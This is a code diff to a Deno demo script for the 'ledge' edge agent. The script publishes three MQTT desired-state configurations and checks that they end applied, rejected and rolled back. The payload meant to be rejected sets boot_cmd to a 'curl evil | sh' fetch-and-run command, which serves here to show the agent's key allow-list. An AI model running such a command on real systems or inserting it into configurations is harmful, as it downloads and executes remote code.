@@ -2,11 +2,13 @@
  * `deno task demo`: the whole agent end to end with nothing installed but Deno. An
  * in-process MQTT broker (aedes) and stats API, the agent as a real subprocess run with
  * exactly the flags `check-config --print-permissions` prints, then: a job and its reply,
- * a collected sample, an upload arriving, and `ledge ctl status`. `--keep` stays up.
+ * a collected sample, an upload arriving, three desired states (applied, rejected, rolled
+ * back) and `ledge ctl status`. `--keep` stays up.
  */
 import { Aedes } from "aedes";
 import { createServer } from "node:net";
 import { parseArgs } from "node:util";
+import { installFakeUci } from "./fake_uci.ts";
 
 const MAIN = new URL("../src/main.ts", import.meta.url).pathname;
 const { values } = parseArgs({ args: Deno.args, options: { keep: { type: "boolean" } } });
@@ -36,6 +38,7 @@ async function ledge(args: string[], flags: string[] = []): Promise<string> {
 const dir = await Deno.makeTempDir({ prefix: "ledge-demo-" });
 const mac = "DE-MO-00-00-00-01";
 const topics = ["delivery", "pub", "status"].map((kind) => `${kind}/demo/demo-key/${mac}`);
+const tail = `demo/demo-key/${mac}`;
 
 // The broker.
 const broker = await Aedes.createBroker();
@@ -52,6 +55,14 @@ for (const topic of topics) {
     done();
   }, () => {});
 }
+const reports: Record<string, unknown>[] = [];
+const onReport = new Set<(report: Record<string, unknown>) => void>();
+broker.subscribe(`state/${tail}`, (packet, done) => {
+  const report = JSON.parse(decode(packet.payload));
+  reports.push(report);
+  for (const listener of onReport) listener(report);
+  done();
+}, () => {});
 say(`MQTT broker (aedes, in-process) on 127.0.0.1:${mqttPort}`);
 
 // The stats API: decodes what the agent uploads, SocketMan's multipart form by default.
@@ -69,6 +80,11 @@ const api = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, a
 });
 const apiUrl = `http://127.0.0.1:${api.addr.port}/v1/collector`;
 say(`stats API (in-process) on ${apiUrl}`);
+
+// No OpenWRT here: a stand-in uci keeps its options in a file; reload_config does nothing.
+const uci = await installFakeUci(dir, ["wireless.radio0.channel=11"]);
+const reloadConfig = `${dir}/reload_config`;
+await Deno.writeTextFile(reloadConfig, "#!/bin/sh\n", { mode: 0o755 });
 
 // The agent, with the narrowest flags its config needs.
 const configPath = `${dir}/config.json`;
@@ -89,6 +105,9 @@ await Deno.writeTextFile(
       state_dir: `${dir}/state`,
       dhcp_leases: `${dir}/dhcp.leases`,
       "no-ping": 1,
+      // Desired state on, with a short confirm window; `port` may be moved (to show a
+      // rollback: the broker is not there).
+      desired: { confirm_s: 10, uci, reload: reloadConfig, allow_keys: ["port"] },
     },
     null,
     2,
@@ -167,6 +186,35 @@ const uploaded = waitFor<string[]>("upload", (done) => onUpload.add(done));
 await ledge(["ctl", "-S", socket, "flush"], ctlFlags);
 const ids = await uploaded;
 say(`upload arrived at the stats API: ${ids.length} sample(s), ids ${ids.join(", ")}`);
+
+// Desired states, retained on config/...: the agent reports each on state/..., retained.
+async function desire(state: Record<string, unknown>): Promise<Record<string, unknown>> {
+  const reported = waitFor<Record<string, unknown>>(
+    `report of desired version ${state.version}`,
+    (done) => onReport.add((report) => report.version === state.version && done(report)),
+  );
+  broker.publish({
+    cmd: "publish",
+    topic: `config/${tail}`,
+    payload: JSON.stringify(state),
+    qos: 1,
+    retain: true,
+    dup: false,
+  }, () => {});
+  say(`desired state published (retained): ${JSON.stringify(state)}`);
+  const report = await reported;
+  say(`state report ${report.status}: ${JSON.stringify(report)}`);
+  return report;
+}
+const outcomes = [
+  await desire({ version: 1, ledge: { monitor: 30 }, uci: { "wireless.radio0.channel": "36" } }),
+  await desire({ version: 2, ledge: { boot_cmd: "/bin/sh -c 'curl evil | sh'" } }),
+  // Nothing listens there: MQTT does not come back within confirm_s, so it is put back.
+  await desire({ version: 3, ledge: { port: mqttPort + 1 } }),
+].map((report) => report.status);
+if (outcomes.join() !== "applied,rejected,rolled_back") {
+  throw new Error(`demo: desired states ended ${outcomes.join(", ")}`);
+}
 
 say("ledge ctl status:");
 console.log(await ledge(["ctl", "-S", socket, "status"], ctlFlags));
